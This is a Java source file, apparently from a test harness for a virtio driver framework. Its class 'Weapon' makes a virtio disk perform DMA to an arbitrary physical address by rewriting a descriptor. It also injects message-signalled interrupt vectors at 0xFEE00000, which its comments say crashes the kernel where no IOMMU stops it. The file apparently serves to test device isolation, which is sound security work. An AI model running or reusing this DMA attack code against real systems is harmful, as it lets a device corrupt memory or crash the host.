package attack;

import peaberry.runtime.Region;
import peaberry.virtio.Readiness;
import peaberry.virtio.VirtQueue;
import peaberry.virtio.VirtioDevice;

/**
 * A virtio disk (Virtual I/O Device version 1.2, 5.2) as something that reads and writes memory: a request is described as a driver does it, and then the
 * address in its second descriptor is changed.
 */
final class Weapon {

    /** What the device is asked to do (5.2.6). */
    static final int TO_MEMORY = 0;
    static final int TO_DISK = 1;

    static final long PATTERN = 0x0BAD_0BAD_0BAD_0BADL;
    /** What a device writes from here on, of a page, interrupts a processor (Intel SDM, volume 3, "Message Signalled Interrupts"). */
    static final long MESSAGES = 0xFEE0_0000L;

    private static final int PARTS = 3;
    /** In the memory that is shared: the data, the queue, where the second descriptor there has its address, the header, the byte that says how it went. */
    private static final int DATA = 0;
    private static final int DATA_BYTES = 4096;
    private static final int QUEUE = DATA + DATA_BYTES;
    private static final int ADDRESS = QUEUE + 16;
    private static final int HEADER = QUEUE + 2048;
    private static final int HEADER_BYTES = 16;
    private static final int STATUS = HEADER + HEADER_BYTES;
    private static final int MEMORY = QUEUE + 4096;

    /** The vectors that the kernel knows; below the first one are the processor's own exceptions. Where no IOMMU stops it, any other one ends the kernel. */
    private static final int FIRST_VECTOR = 32;
    private static final int VECTORS = 128;

    private final VirtioDevice device = new VirtioDevice();
    private final VirtQueue queue = new VirtQueue(0, 1, PARTS);

    void start(String name) {
        if (device.begin(name, MEMORY, 0) != Readiness.READY || device.setUp(queue, QUEUE) != Readiness.READY || device.start() != Readiness.READY) {
            throw new IllegalStateException("there is no such device");
        }
    }

    /** Where the device sees the data of its own driver. */
    long own() {
        return device.memory().deviceAddress(DATA, DATA_BYTES);
    }

    /** Has the device copy {@link #DATA_BYTES} bytes between the start of the disk and memory. */
    void fire(int direction, long address) {
        Region memory = memory();
        memory.setInt64(HEADER, direction);
        memory.setInt64(HEADER + Long.BYTES, 0);
        queue.begin(0);
        queue.addReadable(HEADER, HEADER_BYTES);
        if (direction == TO_DISK) {
            queue.addReadable(DATA, DATA_BYTES);
        } else {
            queue.addWritable(DATA, DATA_BYTES);
        }
        queue.addWritable(STATUS, 1);
        memory.setInt64(ADDRESS, address);
        queue.submit();
        queue.notifyDevice();
    }

    /** Whether it has. */
    boolean isDone() {
        return queue.take() != VirtQueue.NONE;
    }

    void fill(long word) {
        for (int i = 0; i < DATA_BYTES; i += Long.BYTES) {
            memory().setInt64(DATA + i, word);
        }
    }

    boolean isFilled() {
        for (int i = 0; i < DATA_BYTES; i += Long.BYTES) {
            if (memory().int64(DATA + i) != PATTERN) {
                return false;
            }
        }
        return true;
    }

    /**
     * Messages for a page of addresses. By the address a message is in the format that is remapped, where its data count little, or in the old one,
     * where they are the vector.
     */
    void fillWithVectors() {
        for (int i = 0; i < DATA_BYTES; i += Integer.BYTES) {
            int vector = i / (2 * Integer.BYTES) % VECTORS;
            memory().setInt32(DATA + i, vector < FIRST_VECTOR ? 0 : vector);
        }
    }

    private Region memory() {
        return device.memory().bytes();
    }
}
